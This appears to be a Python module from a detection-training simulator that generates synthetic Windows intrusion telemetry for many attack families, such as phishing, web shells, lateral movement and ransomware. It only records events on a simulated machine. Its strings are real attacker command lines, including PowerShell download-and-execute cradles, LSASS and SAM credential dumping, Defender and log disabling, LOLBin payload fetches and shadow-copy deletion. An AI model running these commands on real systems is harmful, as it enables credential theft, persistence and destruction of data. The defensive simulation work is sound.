"""Intrusions on a machine that only exists on paper. Everything an `attack` does is labelled; nothing is run anywhere."""

from __future__ import annotations

from collections.abc import Callable

from .benign import SHELL, quick_tools, some_tools, wide
from .machine import SYSTEM32, Machine, Process

Step = Callable[[Machine, Process], Process]
Campaign = Callable[[Machine], None]
DENS = ["C:\\Users\\Public\\", "C:\\ProgramData\\", "C:\\Windows\\Temp\\", "C:\\PerfLogs\\", "C:\\Users\\{u}\\AppData\\Local\\Temp\\", "C:\\Users\\{u}\\AppData\\Roaming\\", "C:\\Users\\{u}\\Downloads\\", "C:\\Windows\\Tasks\\", "C:\\$Recycle.Bin\\", "C:\\Users\\{u}\\Music\\", "C:\\Temp\\", "C:\\Windows\\debug\\"]


def den(m: Machine) -> str:
    return m.vary.choice(DENS).replace("{u}", m.user)


def server(m: Machine) -> tuple[str, int]:
    known = getattr(m, "_server", None)
    if known is None:
        v = m.vary
        known = (v.choice([v.public(), v.public(), v.private()]), v.choice([80, 443, 8080, 8443, 4444, 5678, 53, 9001]))
        m._server = known  # type: ignore[attr-defined]
    return known


def hidden_script(m: Machine) -> str:
    v = m.vary
    return v.choice([f"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://{server(m)[0]}/{v.hex(4)}')", f"[Reflection.Assembly]::Load([Convert]::FromBase64String('{v.hex(80)}'))", f"while(1){{try{{$r=iwr http://{server(m)[0]}/{v.hex(4)};iex $r}}catch{{}};sleep {v.randint(2, 60)}}}", f"$k='{v.hex(16)}';$s=New-Object Net.Sockets.TCPClient('{server(m)[0]}',{server(m)[1]});$t=$s.GetStream()", f"sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{v.hex(60)}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()", f"IEX (New-Object Net.WebClient).DownloadString('https://{v.domain()}/{v.word()}.ps1'); Invoke-{v.word().capitalize()}"])


def script_shell(m: Machine, parent: Process) -> Process:
    v = m.vary
    text = hidden_script(m)
    command = v.choice([f"powershell -noP -sta -w 1 -enc {wide(text)}", f"powershell.exe -nop -w hidden -e {wide(text)}", f"powershell -c \"{text}\"", f"powershell.exe -ExecutionPolicy Bypass -File {den(m)}{v.word()}.ps1", f"powershell -NoProfile -WindowStyle Hidden -Command {text}", f"cmd /c powershell -ep bypass {text}"])
    shell = m.start(parent, v.choice([SHELL, SHELL, "C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\powershell.exe"]), command)
    m.script(shell, text)
    m.connect(shell, *server(m))
    return shell


def implant(m: Machine, parent: Process) -> Process:
    """A program of its own that calls home."""
    v = m.vary
    path = den(m) + v.choice([v.word() + ".exe", "svchost.exe", "update.exe", "payload.exe", v.hex(6) + ".exe", "rundll.exe", "OneDriveSetup.exe", v.word() + ".scr"])
    m.write(parent, path)
    process = m.start(parent, path, v.choice([path, f'"{path}" -s', path + " " + v.hex(4)]), signed=v.choice(["", "", "", "Microsoft Corporation"]))
    for _ in range(v.randint(1, 5)):
        m.connect(process, *server(m))
        m.wait(1, 20)
    return process


def discovery(m: Machine, parent: Process) -> Process:
    v = m.vary
    shell = m.start(parent, "cmd.exe", v.choice(["cmd.exe /c whoami", "cmd.exe", "C:\\Windows\\system32\\cmd.exe /Q /c"])) if v.maybe(0.5) else parent
    chosen = [("whoami.exe", "whoami /all"), ("net.exe", "net group \"domain admins\" /domain"), ("net.exe", "net view /all"), ("nltest.exe", "nltest /domain_trusts /all_trusts"), ("net.exe", "net accounts"), ("net1.exe", "net1 localgroup administrators"), ("ipconfig.exe", "ipconfig /all"), ("systeminfo.exe", "systeminfo"), ("tasklist.exe", "tasklist /v"), ("quser.exe", "quser"), ("netstat.exe", "netstat -ano"), ("arp.exe", "arp -a"), ("cmdkey.exe", "cmdkey /list"), ("reg.exe", "reg query HKLM /f password /t REG_SZ /s"), ("dsquery.exe", "dsquery computer"), ("wbem\\WMIC.exe", "wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName"), ("findstr.exe", "findstr /si password *.txt *.xml *.ini"), ("setspn.exe", "setspn -T x -Q */*"), ("nslookup.exe", "nslookup -type=any _ldap._tcp"), ("sc.exe", "sc query windefend")]
    for image, command in v.some(chosen, 3, 11):
        m.run(shell, image, command)
        m.wait(0.1, 8)
    return parent


def lsass_dump(m: Machine, parent: Process) -> Process:
    v = m.vary
    lsass, out = m.base["lsass.exe"], f"{den(m)}{v.word()}.{v.choice(['dmp', 'bin', 'log', 'tmp'])}"
    image, command = v.choice([("rundll32.exe", f"rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {out} full"), (den(m) + v.word() + ".exe", f"-accepteula -ma lsass.exe {out}"), (den(m) + "m.exe", "privilege::debug sekurlsa::logonpasswords exit"), (den(m) + v.word() + ".exe", ""), ("", "")])
    process = m.start(parent, image, command, integrity="High", signed=v.choice(["", "Sysinternals"])) if image else parent
    m.access(process, lsass, v.choice(["0x1010", "0x1fffff", "0x1410", "0x143a", "0x1438"]))
    if v.maybe(0.7):
        m.load(process, SYSTEM32 + v.choice(["dbghelp.dll", "dbgcore.dll", "samlib.dll", "vaultcli.dll"]))
        m.write(process, out)
    return parent


def secrets(m: Machine, parent: Process) -> Process:
    v = m.vary
    for image, command in v.some([("reg.exe", f"reg save HKLM\\SAM {den(m)}{v.word()}"), ("reg.exe", f"reg save HKLM\\SYSTEM {den(m)}s.hiv"), ("esentutl.exe", f"esentutl.exe /y /vss C:\\Windows\\System32\\config\\SAM /d {den(m)}sam"), ("ntdsutil.exe", f"ntdsutil \"ac i ntds\" \"ifm\" \"create full {den(m)}x\" q q"), ("vssadmin.exe", "vssadmin create shadow /for=C:"), ("cmd.exe", f"cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit {den(m)}"), ("rundll32.exe", "rundll32.exe keymgr.dll,KRShowKeyMgr"), (den(m) + v.word() + ".exe", "kerberoast /nowrap"), (den(m) + v.word() + ".exe", "asktgt /user:x /rc4:" + v.hex(32)), ("vaultcmd.exe", "vaultcmd /listcreds:\"Windows Credentials\""), ("findstr.exe", "findstr /S cpassword \\\\dc\\sysvol\\*.xml")], 1, 4):
        child = m.start(parent, image, command, integrity="High", signed="" if ":" in image else "Microsoft Corporation")
        if "save" in command or "esentutl" in image:
            m.write(child, f"{den(m)}{v.word()}.{v.choice(['hiv', 'sav', 'dat'])}")
        m.end(child)
    for _ in range(v.randint(0, 3)):
        m.connect(m.base["lsass.exe"], v.private(), 88)
    return parent


def persistence(m: Machine, parent: Process) -> Process:
    v = m.vary
    target = den(m) + v.word() + v.choice([".exe", ".dll", ".vbs", ".ps1"])
    kind = v.randrange(7)
    if kind == 0:
        m.run(parent, "reg.exe", f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {v.word()} /d \"{target}\" /f") if v.maybe(0.5) else None
        m.registry_set(parent, f"HKU\\S-1-5-21\\Software\\Microsoft\\Windows\\CurrentVersion\\{v.choice(['Run', 'RunOnce'])}\\{v.word()}", v.choice([target, f"powershell -w hidden -enc {v.hex(60)}", f"rundll32 {target},x"]))
    elif kind == 1:
        m.run(parent, "schtasks.exe", f"schtasks /create /f /sc minute /mo {v.randint(1, 60)} /tn {v.word()} /tr \"{v.choice([target, 'powershell -w hidden -enc ' + v.hex(40), 'mshta http://' + server(m)[0] + '/a'])}\"")
        m.task(parent, v.word(), target)
    elif kind == 2:
        m.run(parent, "sc.exe", f"sc create {v.word()} binPath= \"{v.choice([target, 'cmd /c start ' + target])}\" start= auto")
        m.service(v.word(), v.choice([target, f"%COMSPEC% /C powershell -enc {v.hex(60)}"]))
    elif kind == 3:
        m.write(parent, f"C:\\Users\\{m.user}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\{v.word()}.{v.choice(['lnk', 'bat', 'vbs', 'exe'])}")
    elif kind == 4:
        m.registry_set(parent, v.choice(["HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe\\Debugger", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Userinit", "HKCU\\Environment\\UserInitMprLogonScript", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\Security Packages", "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Windows\\AppInit_DLLs", f"HKCU\\Software\\Classes\\CLSID\\{{{v.hex(8)}}}\\InprocServer32\\(Default)"]), target)
    elif kind == 5:
        m.run(parent, "net.exe", f"net user {v.word()} {v.hex(8)} /add")
        m.run(parent, "net.exe", f"net localgroup administrators {v.word()} /add")
    else:
        shell = m.run(parent, SHELL, "powershell Set-WmiInstance -Namespace root\\subscription -Class CommandLineEventConsumer")
        m.put("Microsoft-Windows-Sysmon/Operational", 20, {"EventType": "WmiConsumerEvent", "Operation": "Created", "User": shell.user, "Name": v.word(), "Type": "Command Line", "Destination": target})
    return parent


def evasion(m: Machine, parent: Process) -> Process:
    v = m.vary
    for image, command in v.some([("wevtutil.exe", f"wevtutil cl {v.choice(['Security', 'System', 'Microsoft-Windows-Sysmon/Operational'])}"), ("netsh.exe", "netsh advfirewall set allprofiles state off"), (SHELL, "powershell Set-MpPreference -DisableRealtimeMonitoring $true"), (SHELL, f"powershell Add-MpPreference -ExclusionPath {den(m)}"), ("sc.exe", "sc stop WinDefend"), ("sc.exe", "sc config Sysmon start= disabled"), ("taskkill.exe", "taskkill /f /im MsMpEng.exe"), ("auditpol.exe", "auditpol /clear /y"), ("fsutil.exe", "fsutil usn deletejournal /D C:"), ("attrib.exe", f"attrib +h +s {den(m)}{v.word()}.exe"), ("reg.exe", "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\MiniNt /f"), ("bcdedit.exe", "bcdedit /set testsigning on"), ("cmd.exe", f"cmd /c del /f /q {den(m)}*.exe & ping -n 3 127.0.0.1"), ("auditpol.exe", "auditpol /set /category:* /success:disable"), ("cipher.exe", "cipher /w:C:")], 1, 4):
        m.run(parent, image, command, integrity="High")
    if v.maybe(0.4):
        m.registry_set(parent, v.choice(["HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\DisableAntiSpyware", "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Start", "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\LmCompatibilityLevel", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging\\EnableScriptBlockLogging"]), "DWORD (0x00000001)")
    if v.maybe(0.3):
        m.put("Security", 1102, {"SubjectUserName": m.user, "SubjectDomainName": m.domain, "SubjectLogonId": parent.logon})
    return parent


def proxy_execution(m: Machine, parent: Process) -> Process:
    v = m.vary
    where, (address, port) = den(m), server(m)
    image, command = v.choice([("mshta.exe", f"mshta http://{address}/{v.word()}.hta"), ("mshta.exe", "mshta vbscript:Close(Execute(\"GetObject(\"\"script:x\"\")\"))"), ("regsvr32.exe", f"regsvr32 /s /n /u /i:http://{address}/{v.word()}.sct scrobj.dll"), ("rundll32.exe", f"rundll32 {where}{v.word()}.dll,{v.choice(['DllMain', 'Start', '#1', 'StartW'])}"), ("certutil.exe", f"certutil -urlcache -split -f http://{address}/{v.word()} {where}{v.word()}.exe"), ("bitsadmin.exe", f"bitsadmin /transfer j http://{address}/a {where}a.exe"), ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe", f"MSBuild.exe {where}{v.word()}.xml"), ("C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe", f"InstallUtil /logfile= /U {where}{v.word()}.exe"), ("cmstp.exe", f"cmstp /s /ns {where}{v.word()}.inf"), ("wscript.exe", f"wscript {where}{v.word()}.js"), ("cscript.exe", f"cscript //e:jscript {where}{v.word()}.txt"), ("wbem\\WMIC.exe", f"wmic os get /format:\"http://{address}/x.xsl\""), ("C:\\Windows\\hh.exe", f"hh.exe {where}{v.word()}.chm"), ("control.exe", f"control {where}{v.word()}.cpl"), ("odbcconf.exe", f"odbcconf /a {{regsvr {where}x.dll}}"), ("forfiles.exe", f"forfiles /p c:\\windows /m notepad.exe /c {where}x.exe"), ("msiexec.exe", f"msiexec /q /i http://{address}/a.msi"), ("curl.exe", f"curl -o {where}{v.word()}.exe http://{address}/x")])
    process = m.start(parent, image, command)
    if v.maybe(0.7):
        m.connect(process, address, port)
    if v.maybe(0.5):
        m.write(process, f"{where}{v.word()}.{v.choice(['exe', 'dll', 'ps1', 'txt'])}")
    if v.maybe(0.6):
        child = m.start(process, v.choice(["cmd.exe", SHELL, where + v.word() + ".exe", "rundll32.exe", "calc.exe"]), v.choice(["cmd /c whoami", f"powershell -w hidden -enc {v.hex(80)}", ""]))
        if v.maybe(0.5):
            m.connect(child, address, port)
        return child
    return process


def injection(m: Machine, parent: Process) -> Process:
    v = m.vary
    target = v.choice([m.base["explorer.exe"], m.base["svchost.exe"], m.start(parent, v.choice(["notepad.exe", "werfault.exe", "rundll32.exe", "dllhost.exe", "C:\\Windows\\SysWOW64\\rundll32.exe", "gpupdate.exe"]))])
    m.access(parent, target, v.choice(["0x1fffff", "0x1f3fff", "0x147a", "0x43a"]))
    m.inject(parent, target)
    if v.maybe(0.4):
        m.load(target, den(m) + v.word() + ".dll", signed=False)
    for _ in range(v.randint(0, 4)):
        m.connect(target, *server(m))
        m.wait(2, 15)
    return parent


def lateral(m: Machine, parent: Process) -> Process:
    v = m.vary
    for _ in range(v.randint(1, 3)):
        target = v.private()
        image, command = v.choice([("wbem\\WMIC.exe", f"wmic /node:{target} process call create \"powershell -enc {v.hex(40)}\""), (den(m) + "p.exe", f"p.exe \\\\{target} -s -d cmd"), ("sc.exe", f"sc \\\\{target} create {v.word()} binPath= cmd"), ("schtasks.exe", f"schtasks /create /s {target} /tn x /tr C:\\Windows\\Temp\\a.exe /sc once /st 00:00"), ("net.exe", f"net use \\\\{target}\\ADMIN$ /user:administrator {v.hex(6)}"), (SHELL, f"powershell Invoke-Command -ComputerName {target} -ScriptBlock {{{hidden_script(m)}}}"), ("mstsc.exe", f"mstsc /v:{target} /restrictedadmin"), ("winrs.exe", f"winrs -r:{target} whoami")])
        child = m.run(parent, image, command, signed="" if "Users" in image else "Microsoft Corporation")
        m.connect(v.choice([child, m.base["System"]]), target, v.choice([445, 135, 5985, 3389]))
    return parent


def collection(m: Machine, parent: Process) -> Process:
    v = m.vary
    tool = m.start(parent, v.choice([den(m) + "rar.exe", "C:\\Program Files\\7-Zip\\7z.exe", "makecab.exe", "tar.exe", SHELL, den(m) + "rclone.exe"]), v.choice([f"a -hp{v.hex(6)} {den(m)}{v.word()}.rar D:\\Shares", "copy remote:x", f"powershell Compress-Archive C:\\Users {den(m)}x.zip", f"tar -cf {den(m)}a C:\\Users"]), signed="")
    for _ in range(v.randint(1, 8)):
        m.write(tool, f"{den(m)}{v.word()}.{v.choice(['rar', 'zip', '7z', 'cab', 'dat'])}")
    uploader = v.choice([tool, m.start(parent, v.choice(["curl.exe", SHELL, den(m) + "rclone.exe", "ftp.exe"]), f"-T {den(m)}x https://{server(m)[0]}/u")])
    for _ in range(v.randint(1, 5)):
        m.connect(uploader, v.public(), v.choice([443, 21, 22, 80]), v.domain())
    return parent


def ransom(m: Machine, parent: Process) -> Process:
    v = m.vary
    for image, command in v.some([("vssadmin.exe", "vssadmin delete shadows /all /quiet"), ("wbem\\WMIC.exe", "wmic shadowcopy delete"), ("bcdedit.exe", "bcdedit /set {default} recoveryenabled No"), ("wbadmin.exe", "wbadmin delete catalog -quiet"), ("net.exe", "net stop MSSQLSERVER /y"), ("taskkill.exe", "taskkill /f /im sqlservr.exe")], 1, 5):
        m.run(parent, image, command, integrity="High")
    locker = m.start(parent, den(m) + v.word() + ".exe", signed="", integrity="High")
    ending = v.choice(["locked", v.hex(5), "crypt", v.word(1)])
    for _ in range(v.randint(20, 120)):
        path = f"C:\\Users\\{m.user}\\{v.choice(['Documents', 'Desktop', 'Pictures'])}\\{v.word()}.{v.choice(['docx', 'xlsx', 'jpg', 'pdf'])}"
        m.write(locker, f"{path}.{ending}")
        if v.maybe(0.4):
            m.delete(locker, path)
    for _ in range(v.randint(1, 5)):
        m.write(locker, f"C:\\Users\\{m.user}\\{v.choice(['Desktop', 'Documents'])}\\{v.choice(['README', 'HOW_TO_DECRYPT', v.word().upper()])}.txt")
    return parent


def elevation(m: Machine, parent: Process) -> Process:
    v = m.vary
    key, helper = v.choice([("ms-settings", "fodhelper.exe"), ("mscfile", "eventvwr.exe"), ("exefile", "sdclt.exe"), ("Folder", "computerdefaults.exe")])
    if v.maybe(0.7):
        m.registry_set(parent, f"HKU\\S-1-5-21_Classes\\{key}\\shell\\open\\command\\(Default)", v.choice([f"powershell -enc {v.hex(40)}", den(m) + "x.exe", "cmd.exe"]))
        m.registry_set(parent, f"HKU\\S-1-5-21_Classes\\{key}\\shell\\open\\command\\DelegateExecute", "(Empty)")
        high = m.start(parent, helper, integrity="High")
        return m.start(high, v.choice(["cmd.exe", SHELL]), f"cmd /c {den(m)}x.exe", integrity="High")
    m.pipe(parent, "\\" + v.word(), made=True)
    m.service(v.word(), f"cmd.exe /c echo {v.word()} > \\\\.\\pipe\\{v.word()}")
    return m.start("services.exe", "cmd.exe", f"cmd.exe /c echo {v.word()} > \\\\.\\pipe\\{v.word()}", user="NT AUTHORITY\\SYSTEM", integrity="System")


STEPS: list[Step] = [discovery, lsass_dump, secrets, persistence, evasion, proxy_execution, injection, lateral, collection, ransom, elevation, script_shell, implant]


def chain(m: Machine, foothold: Process, own: list[Step], least: int, most: int) -> None:
    v = m.vary
    at = foothold
    for step in v.some(own, least, most):
        at = step(m, at)
        m.wait(0.5, v.choice([3, 15, 60, 150]))
        if v.maybe(0.2):
            some_tools(m, at, 1, 3)


def phishing(m: Machine) -> None:
    v = m.vary
    program = m.start("explorer.exe", v.choice(["C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "wscript.exe", "mshta.exe", "C:\\Windows\\explorer.exe", f"C:\\Users\\{m.user}\\Downloads\\{v.word()}.exe"]), f"x \"C:\\Users\\{m.user}\\Downloads\\{v.word()}.docm\"")
    chain(m, v.choice([script_shell, proxy_execution, implant])(m, program), STEPS, 1, 5)


def agent_in_memory(m: Machine) -> None:
    shell = script_shell(m, m.base[m.vary.choice(["explorer.exe", "WmiPrvSE.exe", "svchost.exe"])])
    chain(m, shell, [discovery, lsass_dump, secrets, persistence, lateral, injection, elevation], 1, 4)


def hands_on(m: Machine) -> None:
    v = m.vary
    m.logon(v.choice(["Administrator", v.person()]), 10, v.public())
    shell = m.start("explorer.exe", v.choice(["cmd.exe", SHELL]), integrity="High")
    chain(m, shell, [discovery, secrets, lsass_dump, evasion, lateral, collection, persistence], 2, 6)


def remote_execution(m: Machine) -> None:
    """The far end of somebody's lateral movement."""
    v = m.vary
    source = v.private()
    m.logon(v.choice(["Administrator", v.person()]), 3, source)
    kind = v.randrange(5)
    if kind == 0:
        name = v.choice([v.word(), v.hex(8), "BTOBTO", "PSEXESVC"])
        m.write(m.base["System"], f"C:\\Windows\\{name}.exe")
        m.service(name, v.choice([f"%systemroot%\\{name}.exe", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c %TEMP%\\execute.bat", f"%COMSPEC% /C powershell -nop -w hidden -enc {v.hex(80)}"]))
        foothold = m.start("services.exe", f"C:\\Windows\\{name}.exe", signed="")
        foothold = m.start(foothold, "cmd.exe", "cmd", user="NT AUTHORITY\\SYSTEM", integrity="System")
    elif kind == 1:
        foothold = m.start("WmiPrvSE.exe", v.choice(["cmd.exe", SHELL]), v.choice([f"cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__{v.randint(10**9, 10**10)} 2>&1", f"powershell -enc {v.hex(90)}"]), user=f"{m.domain}\\{v.person()}", integrity="High")
    elif kind == 2:
        host = m.start("svchost.exe", "wsmprovhost.exe", "wsmprovhost.exe -Embedding", integrity="High")
        foothold = script_shell(m, host)
    elif kind == 3:
        foothold = m.start(v.choice(["svchost.exe", "explorer.exe"]), "mmc.exe", "mmc.exe -Embedding", integrity="High")
        foothold = m.start(foothold, "cmd.exe", f"cmd.exe /Q /c cd 1> \\\\127.0.0.1\\ADMIN$\\__{v.randint(10**9, 10**10)} 2>&1")
    else:
        foothold = m.start("svchost.exe", "cmd.exe", f"cmd.exe /C {v.word()} > %windir%\\Temp\\{v.word()}.tmp 2>&1", user="NT AUTHORITY\\SYSTEM", integrity="System")
    m.accept(m.base["System"], source, v.choice([445, 135, 5985]))
    chain(m, foothold, STEPS, 1, 4)


def web_shell(m: Machine) -> None:
    v = m.vary
    pool = m.start("svchost.exe", v.choice(["inetsrv\\w3wp.exe", "C:\\Program Files\\Apache\\tomcat9.exe", "C:\\xampp\\php\\php-cgi.exe", "C:\\Program Files\\Java\\jre\\bin\\java.exe"]), "w3wp.exe -ap x", user="IIS APPPOOL\\Default")
    m.write(pool, f"C:\\inetpub\\wwwroot\\{v.word()}.{v.choice(['aspx', 'jsp', 'php', 'ashx'])}")
    shell = m.start(pool, v.choice(["cmd.exe", SHELL]), v.choice(["cmd.exe /c whoami", f"cmd /c cd /d C:\\inetpub & {v.choice(quick_tools(v))[1]}", f"powershell -enc {v.hex(60)}"]))
    chain(m, shell, STEPS, 1, 4)


def database_shell(m: Machine) -> None:
    v = m.vary
    database = m.start("services.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe", user="NT SERVICE\\MSSQLSERVER")
    shell = m.start(database, "cmd.exe", f"\"C:\\Windows\\system32\\cmd.exe\" /c {v.choice(['whoami', 'powershell -enc ' + v.hex(50), 'certutil -urlcache -f http://' + server(m)[0] + '/a a.exe'])}")
    chain(m, shell, STEPS, 1, 3)


def ransomware(m: Machine) -> None:
    foothold = m.vary.choice([implant, script_shell])(m, m.base[m.vary.choice(["explorer.exe", "services.exe", "svchost.exe"])])
    chain(m, foothold, [discovery, evasion, secrets], 0, 3)
    ransom(m, foothold)


def command_and_control(m: Machine) -> None:
    process = implant(m, m.base[m.vary.choice(["explorer.exe", "svchost.exe", "services.exe"])])
    for _ in range(m.vary.randint(3, 12)):
        m.connect(process, *server(m))
        m.wait(3, 45)
    chain(m, process, STEPS, 0, 3)


def tampering(m: Machine) -> None:
    """What one hand does at a prompt: one technique, little else."""
    v = m.vary
    shell = m.start(v.choice(["explorer.exe", "svchost.exe"]), v.choice(["cmd.exe", SHELL]), integrity="High")
    chain(m, shell, [evasion, proxy_execution, lsass_dump, secrets, persistence, injection, elevation], 1, 2)


FAMILIES: dict[str, Campaign] = {
    "phishing": phishing, "agent_in_memory": agent_in_memory, "hands_on": hands_on, "remote_execution": remote_execution, "web_shell": web_shell, "database_shell": database_shell,
    "ransomware": ransomware, "command_and_control": command_and_control, "tampering": tampering,
}
